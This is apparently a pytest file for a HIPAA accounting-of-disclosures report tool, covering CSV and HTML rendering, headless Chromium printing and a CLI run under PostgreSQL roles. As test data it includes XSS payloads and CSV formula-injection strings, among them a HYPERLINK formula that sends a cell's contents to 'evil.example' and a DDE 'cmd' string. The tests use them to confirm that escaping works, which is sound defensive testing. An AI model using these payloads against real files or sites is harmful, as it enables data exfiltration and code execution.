"""The accounting-of-disclosures report (vetassist_client.report): CSV and HTML rendering (no
database), the page as headless Chromium shows it (no database), and end to end: disclosures
recorded as app_user, the command line run as auditor_user.

Chromium and pdftotext come from scripts/ensure-chromium.sh. Without them the Chromium tests
skip, unless VETASSIST_REQUIRE_CHROMIUM is set: then they fail.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import sys
import tempfile
import uuid
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta, timezone
from html.parser import HTMLParser
from pathlib import Path
from uuid import UUID

import psycopg
import pytest

from psycopg.rows import TupleRow
from vetassist_testing import Cluster  # on sys.path through conftest.py

from vetassist_client import VetAssistClient
from vetassist_client.report import EMPTY_PERIOD, TITLE, AccountingEntry, main, render_csv, render_html

CLIENT_DIR = Path(__file__).resolve().parents[1]
ROOT = CLIENT_DIR.parents[1]

USER = UUID("7f1c2a9e-3b4d-4e5f-8a6b-1c2d3e4f5a6b")
GENERATED = datetime(2025, 3, 14, 9, 26, 53, tzinfo=UTC)
HOSTILE = "<script>alert(1)</script>"
SAMPLE = [
    AccountingEntry(datetime(2024, 3, 1, 23, 30, tzinfo=UTC),
                    "County Health Dept", "TB test result", "public_health"),
    # 01:00 at +05:00 is still 1 June in UTC.
    AccountingEntry(datetime(2024, 6, 2, 1, 0, tzinfo=timezone(timedelta(hours=5))),
                    'Smith, "Jr." & Co.\nLaw office', "Visit notes, 2023\r\nand labs", "judicial_administrative"),
    AccountingEntry(datetime(2024, 9, 9, 12, 0, tzinfo=UTC),
                    HOSTILE, '<img src=x onerror="alert(2)">', "law_enforcement"),
]


def squash(text: str) -> str:
    """Without any whitespace: what survives line wrapping in a printed page."""
    return "".join(text.split())


def words(text: str) -> str:
    return " ".join(text.split())


# Rendering, no database


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_round_trips_commas_quotes_and_newlines() -> None:
    text = render_csv(USER, SAMPLE)
    assert text.startswith("date,recipient,description,purpose\r\n")
    assert csv_rows(text) == [
        ["date", "recipient", "description", "purpose"],
        ["2024-03-01", "County Health Dept", "TB test result", "public_health"],
        ["2024-06-01", 'Smith, "Jr." & Co.\nLaw office', "Visit notes, 2023\r\nand labs", "judicial_administrative"],
        ["2024-09-09", HOSTILE, '<img src=x onerror="alert(2)">', "law_enforcement"],
    ]


def test_csv_of_no_disclosures_is_the_header_alone() -> None:
    assert csv_rows(render_csv(USER, [])) == [["date", "recipient", "description", "purpose"]]


def test_csv_keeps_spreadsheet_formulas_as_text() -> None:
    rows = [AccountingEntry(GENERATED, '=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0",
                            "required_by_law"),
            AccountingEntry(GENERATED, "-2+3", "+1", "serious_threat")]
    parsed = csv_rows(render_csv(USER, rows))[1:]
    assert parsed == [["2025-03-14", '\'=HYPERLINK("http://evil.example/?"&A1,"x")', "'@SUM(1+1)*cmd|' /C calc'!A0",
                       "required_by_law"],
                      ["2025-03-14", "'-2+3", "'+1", "serious_threat"]]


class Page(HTMLParser):
    """The elements of a page and the text of its body (style and script contents left out)."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: set[str] = set()
        self.title = ""
        self.body_text: list[str] = []
        self.rows: list[list[str]] = []  # the cells of each tbody row
        self._open: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes.update(name for name, _ in attrs)
        if "body" in self._open:
            self.body_text.append(" ")  # elements apart, as on screen
        if tag == "tr" and "tbody" in self._open:
            self.rows.append([])
        elif tag == "td" and self.rows:
            self.rows[-1].append("")
        if tag not in ("meta", "br", "img", "link", "hr", "input"):
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag in self._open:
            while self._open.pop() != tag:
                pass

    def handle_data(self, data: str) -> None:
        if "title" in self._open:
            self.title += data
        if "body" in self._open and not {"style", "script"} & set(self._open):
            self.body_text.append(data)
            if "td" in self._open and self.rows:
                self.rows[-1][-1] += data

    @property
    def text(self) -> str:
        return "".join(self.body_text)


def test_html_escapes_every_value() -> None:
    page_html = render_html(USER, SAMPLE, GENERATED)
    assert "<script" not in page_html.lower() and "<img" not in page_html.lower()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page_html
    page = Page(page_html)
    assert "script" not in page.tags and "img" not in page.tags
    assert set(page.tags) <= {"html", "head", "meta", "title", "style", "body", "h1", "dl", "dt", "dd",
                              "table", "thead", "tbody", "tr", "th", "td", "p"}
    # Escaped, not dropped: the hostile values are there as text, in their cells.
    assert page.rows == [
        ["2024-03-01", "County Health Dept", "TB test result", "public_health"],
        ["2024-06-01", 'Smith, "Jr." & Co.\nLaw office', "Visit notes, 2023\r\nand labs", "judicial_administrative"],
        ["2024-09-09", HOSTILE, '<img src=x onerror="alert(2)">', "law_enforcement"],
    ]


def test_html_is_a_self_contained_printable_page() -> None:
    page_html = render_html(USER, SAMPLE, GENERATED)
    assert page_html.startswith("<!DOCTYPE html>\n")
    assert "@media print" in page_html
    page = Page(page_html)
    # Nothing to fetch: no element that loads, no attribute naming a resource, no CSS import.
    assert not {"script", "link", "img", "iframe", "object", "embed", "base"} & set(page.tags)
    assert not {"src", "href", "srcset", "action", "style", "onload"} & page.attributes, page.attributes
    style = page_html[page_html.index("<style>"):page_html.index("</style>")].lower()
    assert "@import" not in style and "url(" not in style and "@font-face" not in style
    assert "default-src 'none'" in page_html  # the CSP: no script, no fetch, even if escaping failed
    assert page.title == TITLE
    text = words(page.text)
    assert TITLE in text
    assert str(USER) in text
    assert "Period 2019-03-14 to 2025-03-14 (UTC)" in text  # six years before generation
    assert "Generated 2025-03-14 09:26:53 UTC" in text
    assert "45 CFR 164.528" in text
    assert EMPTY_PERIOD not in text


def test_html_period_starts_at_since() -> None:
    since = datetime(2021, 1, 1, 3, 0, tzinfo=timezone(timedelta(hours=5)))  # 31 December 2020 in UTC
    text = words(Page(render_html(USER, SAMPLE, GENERATED, since=since)).text)
    assert "Period 2020-12-31 to 2025-03-14 (UTC)" in text
    leap = datetime(2024, 2, 29, 12, 0, tzinfo=UTC)
    assert "Period 2018-02-28 to 2024-02-29 (UTC)" in words(Page(render_html(USER, [], leap)).text)


def test_html_of_no_disclosures_says_so() -> None:
    page = Page(render_html(USER, [], GENERATED))
    assert EMPTY_PERIOD in words(page.text)
    assert "table" not in page.tags and page.rows == []


def test_naive_datetimes_are_refused() -> None:
    with pytest.raises(ValueError, match="timezone"):
        render_html(USER, SAMPLE, datetime(2025, 1, 1))
    with pytest.raises(ValueError, match="timezone"):
        render_csv(USER, [AccountingEntry(datetime(2025, 1, 1), "r", "d", "public_health")])


def test_cli_needs_a_connection(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.delenv("VETASSIST_PG_CONNINFO", raising=False)
    with pytest.raises(SystemExit) as exited:
        main(["accounting", "--user", str(USER)])
    assert exited.value.code == 2
    assert "VETASSIST_PG_CONNINFO" in capsys.readouterr().err


@pytest.mark.parametrize("args", [["--user", "not-a-uuid"], ["--user", str(USER), "--since", "last week"],
                                  ["--user", str(USER), "--format", "pdf"]])
def test_cli_refuses_bad_arguments(args: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exited:
        main(["accounting", "--conninfo", "dbname=unused", *args])
    assert exited.value.code == 2
    assert "error:" in capsys.readouterr().err


def test_cli_reports_a_failed_connection(tmp_path: Path) -> None:
    """As a module run by `python -m`: no traceback, no warning, exit status 1, libpq's reason."""
    done = run_report("--user", str(USER), "--conninfo", f"host={tmp_path} port=1 dbname=none connect_timeout=5")
    assert done.returncode == 1 and done.stdout == ""
    assert done.stderr.startswith("python -m vetassist_client.report: "), done.stderr
    assert str(tmp_path) in done.stderr and "Traceback" not in done.stderr and "Warning" not in done.stderr


# Headless Chromium, no database


@pytest.fixture
def browser() -> str:
    """The chromium binary (and pdftotext beside it); skipped without them unless required."""
    found = shutil.which("chromium") or shutil.which("chromium-browser")
    missing = [name for name, path in (("chromium", found), ("pdftotext", shutil.which("pdftotext"))) if not path]
    if missing:
        why = f"{' and '.join(missing)} not installed (scripts/ensure-chromium.sh installs them)"
        if os.environ.get("VETASSIST_REQUIRE_CHROMIUM"):
            pytest.fail(f"VETASSIST_REQUIRE_CHROMIUM is set but {why}")
        pytest.skip(why)
    assert found is not None
    return found


@dataclass
class Seen:
    """A page as Chromium loaded it: the DOM after parsing (and any script, had one run), and the
    text of the page printed to PDF."""

    dom: Page
    pdf_text: str
    log: str = field(repr=False)


def run_chromium(binary: str, work: Path, *args: str) -> str:
    """Headless Chromium in a container: no sandbox (no user namespaces), its own profile and HOME."""
    home = Path(tempfile.mkdtemp(prefix="home-", dir=work))
    profile = Path(tempfile.mkdtemp(prefix="profile-", dir=work))
    env = {**os.environ, "HOME": str(home), "XDG_CONFIG_HOME": str(home / ".config"),
           "XDG_CACHE_HOME": str(home / ".cache")}
    cmd = [binary, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
           "--disable-extensions", f"--user-data-dir={profile}", *args]
    try:
        done = subprocess.run(cmd, capture_output=True, text=True, timeout=120, env=env, check=False)
    except subprocess.TimeoutExpired as exc:
        pytest.fail(f"chromium did not finish in {exc.timeout} s: {' '.join(cmd)}")
    assert done.returncode == 0, f"{' '.join(cmd)} exited {done.returncode}:\n{done.stderr[-4000:]}"
    return done.stdout


def browse(binary: str, page_file: Path) -> Seen:
    work = page_file.parent
    url = page_file.resolve().as_uri()
    dom = run_chromium(binary, work, "--dump-dom", url)
    assert "</html>" in dom, f"no DOM dumped for {url}: {dom[:500]!r}"
    pdf = work / (page_file.stem + ".pdf")
    run_chromium(binary, work, "--no-pdf-header-footer", f"--print-to-pdf={pdf}", url)
    assert pdf.is_file() and pdf.stat().st_size > 0, f"chromium printed no PDF of {url}"
    text = subprocess.run(["pdftotext", "-enc", "UTF-8", str(pdf), "-"], capture_output=True, text=True,
                          timeout=60, check=True).stdout
    return Seen(Page(dom), text, dom)


def test_chromium_shows_every_value_and_runs_no_script(browser: str, tmp_path: Path) -> None:
    page_file = tmp_path / "accounting.html"
    page_file.write_text(render_html(USER, SAMPLE, GENERATED), encoding="utf-8")
    seen = browse(browser, page_file)
    # The DOM Chromium built: the hostile values are text in their cells, no element came of them.
    assert "script" not in seen.dom.tags and "img" not in seen.dom.tags, seen.log
    assert seen.dom.title == TITLE
    assert [[words(cell) for cell in row] for row in seen.dom.rows] == [
        ["2024-03-01", "County Health Dept", "TB test result", "public_health"],
        ["2024-06-01", 'Smith, "Jr." & Co. Law office', "Visit notes, 2023 and labs", "judicial_administrative"],
        ["2024-09-09", HOSTILE, '<img src=x onerror="alert(2)">', "law_enforcement"],
    ]
    # What a printout shows (cells may wrap, so compared without whitespace).
    printed = squash(seen.pdf_text)
    for expected in (TITLE, str(USER), "2019-03-14to2025-03-14", "2025-03-1409:26:53UTC", "45CFR164.528",
                     *(squash(value) for row in SAMPLE for value in (row.recipient, row.description, row.purpose))):
        assert squash(expected) in printed, f"{expected!r} not in the printed page:\n{seen.pdf_text}"
    assert squash(EMPTY_PERIOD) not in printed


def test_chromium_shows_the_empty_period_sentence(browser: str, tmp_path: Path) -> None:
    page_file = tmp_path / "empty.html"
    page_file.write_text(render_html(USER, [], GENERATED), encoding="utf-8")
    seen = browse(browser, page_file)
    assert EMPTY_PERIOD in words(seen.dom.text)
    assert seen.dom.rows == [] and "table" not in seen.dom.tags
    assert EMPTY_PERIOD in words(seen.pdf_text) and TITLE in words(seen.pdf_text)


# End to end: a cluster (conftest.py), disclosures recorded as app_user, the CLI as auditor_user


@pytest.fixture
def auditor_conninfo(cluster: Cluster, su: psycopg.Connection[TupleRow]) -> str:
    """auditor_user, a LOGIN member of vetassist_auditor (install() creates it; made sure of here)."""
    su.execute("""
        DO $$ BEGIN
          IF NOT EXISTS (SELECT 1 FROM pg_catalog.pg_roles WHERE rolname = 'auditor_user') THEN
            CREATE ROLE auditor_user LOGIN;
          END IF;
        END $$""")
    if not su.execute("SELECT pg_has_role('auditor_user', 'vetassist_auditor', 'MEMBER')").fetchone() == (True,):
        su.execute("GRANT vetassist_auditor TO auditor_user")
    return str(cluster.conninfo("vetassist", "auditor_user"))


@dataclass(frozen=True)
class Recorded:
    user_id: UUID
    public_health: AccountingEntry
    treatment: AccountingEntry
    before: datetime
    after: datetime


@pytest.fixture
def recorded(client: VetAssistClient, icn: str) -> Recorded:
    """A new veteran, and two disclosures the application recorded: one accountable, one exempt."""
    tag = uuid.uuid4().hex[:8]
    before = datetime.now(UTC)
    with client.request() as r:
        uid = r.upsert_va_user(icn, "veteran", "pat.doe@example.org", "Pat", "Doe")
    public_health = AccountingEntry(before, f'County Health Dept <TB unit> "{tag}", reports',
                                    f"Positive TB test result & date {tag}", "public_health")
    treatment = AccountingEntry(before, f"Cardiology clinic {tag}", f"Discharge summary {tag}", "treatment")
    with client.request() as r:
        first = r.record_disclosure(uid, public_health.recipient, public_health.description, public_health.purpose,
                                    {"statute": "state reportable disease law"})
        second = r.record_disclosure(uid, treatment.recipient, treatment.description, treatment.purpose)
    assert isinstance(first, int) and isinstance(second, int) and first != second
    return Recorded(uid, public_health, treatment, before, datetime.now(UTC))


def is_public_health(purpose: str) -> bool:
    """The accounting states the purpose: the code, or a brief statement of it."""
    return purpose == "public_health" or "public health" in purpose.lower()


def run_report(*args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k != "VETASSIST_PG_CONNINFO"}
    env["PYTHONPATH"] = os.pathsep.join(filter(None, [str(CLIENT_DIR), env.get("PYTHONPATH")]))
    return subprocess.run([sys.executable, "-m", "vetassist_client.report", "accounting", *args],
                          cwd=CLIENT_DIR, env=env, capture_output=True, text=True, timeout=120, check=False)


def audit_reads(su: psycopg.Connection[TupleRow], user_id: UUID) -> int:
    row = su.execute("SELECT count(*) FROM vetassist_auth.audit_log WHERE subject_user_id = %s AND category = 'audit'",
                     (user_id,)).fetchone()
    assert row is not None
    return int(row[0])


def test_accounting_cli_end_to_end_csv(recorded: Recorded, auditor_conninfo: str, app_conninfo: str,
                                       su: psycopg.Connection[TupleRow]) -> None:
    days = {recorded.before.date().isoformat(), recorded.after.date().isoformat()}
    for since in ([], ["--since", (recorded.before - timedelta(hours=1)).isoformat()]):
        reads = audit_reads(su, recorded.user_id)
        done = run_report("--user", str(recorded.user_id), "--format", "csv", "--conninfo", auditor_conninfo,
                          *since)
        assert done.returncode == 0, done.stderr
        rows = csv_rows(done.stdout)
        assert rows[0] == ["date", "recipient", "description", "purpose"]
        assert len(rows) == 2, rows  # the public_health disclosure only: treatment needs no accounting
        date, recipient, description, purpose = rows[1]
        assert date in days
        assert (recipient, description) == (recorded.public_health.recipient, recorded.public_health.description)
        assert is_public_health(purpose), purpose
        # The auditor's read of the accounting is on record, about this veteran.
        assert audit_reads(su, recorded.user_id) > reads
    # The application role may not read an accounting: the CLI says why, with the SQLSTATE.
    denied = run_report("--user", str(recorded.user_id), "--format", "csv", "--conninfo", app_conninfo)
    assert denied.returncode == 1 and denied.stdout == ""
    assert "SQLSTATE 42501" in denied.stderr, denied.stderr


def test_accounting_cli_end_to_end_html_in_chromium(recorded: Recorded, auditor_conninfo: str, browser: str,
                                                    tmp_path: Path) -> None:
    page_file = tmp_path / "accounting.html"
    done = run_report("--user", str(recorded.user_id), "--format", "html", "--output", str(page_file),
                      "--conninfo", auditor_conninfo)
    assert done.returncode == 0, done.stderr
    assert done.stdout == ""
    seen = browse(browser, page_file)
    assert seen.dom.title == TITLE
    assert "script" not in seen.dom.tags
    assert len(seen.dom.rows) == 1, seen.dom.rows
    date, recipient, description, purpose = seen.dom.rows[0]
    assert date in {recorded.before.date().isoformat(), recorded.after.date().isoformat()}
    assert (recipient, description) == (recorded.public_health.recipient, recorded.public_health.description)
    assert is_public_health(purpose), purpose
    text = words(seen.dom.text)
    printed = squash(seen.pdf_text)
    assert str(recorded.user_id) in text and squash(str(recorded.user_id)) in printed
    for value in (recorded.public_health.recipient, recorded.public_health.description):
        assert squash(value) in printed, f"{value!r} not in the printed page:\n{seen.pdf_text}"
    for value in (recorded.treatment.recipient, recorded.treatment.description):
        assert value not in text and squash(value) not in printed
    assert EMPTY_PERIOD not in text
